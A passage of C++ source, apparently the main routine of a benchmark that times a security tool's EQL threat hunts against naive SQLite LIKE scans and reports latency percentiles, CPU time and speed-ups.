  if (WIFEXITED(rc) && WEXITSTATUS(rc) == 124) return {ms, -1};
  return {ms, n};
}

double ThreadCpuMs() {
  timespec t{};
  clock_gettime(CLOCK_THREAD_CPUTIME_ID, &t);
  return static_cast<double>(t.tv_sec) * 1e3 + static_cast<double>(t.tv_nsec) / 1e6;
}

double Percentile(std::vector<double> v, double p) {
  std::sort(v.begin(), v.end());
  std::size_t i = static_cast<std::size_t>(p * static_cast<double>(v.size() - 1) + 0.5);
  return v[std::min(i, v.size() - 1)];
}

}  // namespace

int main(int argc, char** argv) {
  CLI::App app{"Hunting benchmark: 23 EQL hunts vs naive LIKE scans in the sqlite3 shell"};
  std::string db, layout = "blocks";
  std::uint64_t events = 10'000'000;
  int reps = 15, cpu = 0, baseline_timeout = 120;
  std::vector<int> only;
  bool no_baseline = false, plan = false;
  app.add_option("--layout", layout,
                 "Row layout of the dataset: blocks (the server's default for a new store; "
                 "written through the store's ingest) or rows (with every B-tree index)")
      ->check(CLI::IsMember({"blocks", "rows"}))
      ->capture_default_str();
  app.add_option("--db", db,
                 "Dataset, generated and cached when missing (default: "
                 "build/bench-hunt/hunt-blocks.db, or build/bench-hunt/hunt.db for rows)");
  app.add_option("--events", events, "Events to generate")->capture_default_str();
  app.add_option("--reps", reps, "Runs of each hunt (p50/p99 over them)")->capture_default_str();
  app.add_option("--cpu", cpu, "Pin to this CPU (-1: no pinning)")->capture_default_str();
  app.add_option("--baseline-timeout", baseline_timeout, "Seconds per baseline query")
      ->capture_default_str();
  app.add_option("--only", only, "Run only these hunts (1-based, comma-separated)")->delimiter(',');
  app.add_flag("--no-baseline", no_baseline, "Skip the sqlite3 shell baseline");
  app.add_flag("--plan", plan, "Print each hunt's SQL (as it runs) and SQLite's query plan of it");
  CLI11_PARSE(app, argc, argv);
  const bool blocks = layout == "blocks";
  if (db.empty()) db = blocks ? "build/bench-hunt/hunt-blocks.db" : "build/bench-hunt/hunt.db";

  if (cpu >= 0) {
    cpu_set_t set;
    CPU_ZERO(&set);
    CPU_SET(cpu, &set);
    sched_setaffinity(0, sizeof set, &set);
  }
  std::uint64_t have = fs::exists(db) ? DatasetSize(db) : 0;
  if (have < events * 9 / 10) {
    std::cerr << "bench_hunt: generating " << events << " events into " << db << "\n";
    Generate(db, events, blocks);
    have = DatasetSize(db);
  }
  // Indexes added since the dataset was cached (CREATE INDEX IF NOT EXISTS), then statistics. The
  // store stays open while the hunts run, as in the server: the text index's partition being
  // written is answered from its memory.
  auto t0 = Clock::now();
  auto store = vigil::store::OpenSqliteStore({db, false});
  if (!store) {
    std::cerr << "bench_hunt: " << store.error().message << "\n";
    return 1;
  }
  if (Ms(Clock::now() - t0) > 1000) {
    std::cerr << "bench_hunt: dataset upgraded in " << static_cast<int>(Ms(Clock::now() - t0))
              << " ms\n";
    Db d;
    sqlite3_open(db.c_str(), &d.db);
    d.Exec("PRAGMA wal_checkpoint(TRUNCATE)");
    d.Exec("ANALYZE");
  }
  std::cout << "dataset: " << db << " (" << layout << "), " << have << " events, " << kHosts
            << " hosts\n";
  std::printf("%-26s %9s %9s %9s %9s %10s %8s %8s\n", "hunt", "p50 ms", "p99 ms", "cpu ms", "rows",
              "naive ms", "naive n", "speedup");
  auto hunts = Hunts();
  bool all_met = true;
  for (std::size_t i = 0; i < hunts.size(); ++i) {
    if (!only.empty() && std::ranges::find(only, static_cast<int>(i + 1)) == only.end()) continue;
    const auto& h = hunts[i];
    auto query = vigil::hunt::Parse(h.eql);
    if (!query) {
      std::cerr << h.name << ": " << query.error().message << "\n";
      return 1;
    }
    vigil::hunt::HuntOptions options;
    options.limit = 0;
    options.timeout = std::chrono::milliseconds(600000);
    if (plan) {
      auto sql = vigil::hunt::Explain(db, *query, options);
      std::cout << "-- " << h.name << "\n" << (sql ? *sql : sql.error().message) << "\n";
      if (sql && sql->find("-- step") == std::string::npos) {
        Db d;
        sqlite3_open(db.c_str(), &d.db);
        (void)vigil::hunt::RegisterFunctions(d.db);
        (void)vigil::store::text_index::RegisterFunction(d.db);
        (void)vigil::store::blocks::RegisterBlockTables(d.db);
        sqlite3_stmt* s = nullptr;
        std::string eqp = "EXPLAIN QUERY PLAN " + sql->substr(0, sql->rfind(';'));
        if (sqlite3_prepare_v2(d.db, eqp.c_str(), -1, &s, nullptr) == SQLITE_OK)
          while (sqlite3_step(s) == SQLITE_ROW)
            std::cout << "   " << reinterpret_cast<const char*>(sqlite3_column_text(s, 3)) << "\n";
        sqlite3_finalize(s);
      }
    }
    std::vector<double> times, cpu_times;  // wall; CPU time of this thread (the load aside)
    std::uint64_t rows = 0, groups = 0;
    for (int r = 0; r < reps; ++r) {
      std::uint64_t n = 0, g = 0;
      auto t0 = Clock::now();
      double c0 = ThreadCpuMs();
      auto stats = vigil::hunt::Run(db, *query, options, [&](const auto& row) {
        ++n;
        if (row.contains("count")) ++g;
        return true;
      });
      times.push_back(Ms(Clock::now() - t0));
      cpu_times.push_back(ThreadCpuMs() - c0);
      if (!stats) {
        std::cerr << h.name << ": " << stats.error().message << "\n";
        return 1;
      }
      rows = n, groups = g;
    }
    (void)groups;
    double p50 = Percentile(times, 0.5), p99 = Percentile(times, 0.99);
    double naive_ms = 0;
    std::int64_t naive_n = 0;
    if (!no_baseline)
      std::tie(naive_ms, naive_n) =
          blocks ? InProcess(db, h.naive, baseline_timeout) : Shell(db, h.naive, baseline_timeout);
    // A timed-out baseline (-1) gives a lower bound of the speed-up and no answer to compare.
    bool same =
        no_baseline || h.sequence || naive_n < 0 || naive_n == static_cast<std::int64_t>(rows);
    double speedup = naive_ms / p50;
    bool met =
        (h.sequence ? p99 <= 3000 : (p50 <= 100 && p99 <= 1000)) && (no_baseline || speedup >= 20);
    all_met &= met;
    std::printf("%-26s %9.1f %9.1f %9.1f %9llu %10s %8lld %7.0fx%s%s\n", h.name, p50, p99,
                Percentile(cpu_times, 0.5), static_cast<unsigned long long>(rows),
                naive_n < 0 ? (">" + std::to_string(baseline_timeout * 1000)).c_str()
                            : std::to_string(static_cast<long long>(naive_ms)).c_str(),
                static_cast<long long>(naive_n), speedup, same ? "" : "  (answers differ!)",
                met ? "" : "  MISSED");
    std::fflush(stdout);
  }
  std::cout << (all_met ? "all targets met\n" : "some targets missed\n");
  return 0;
}
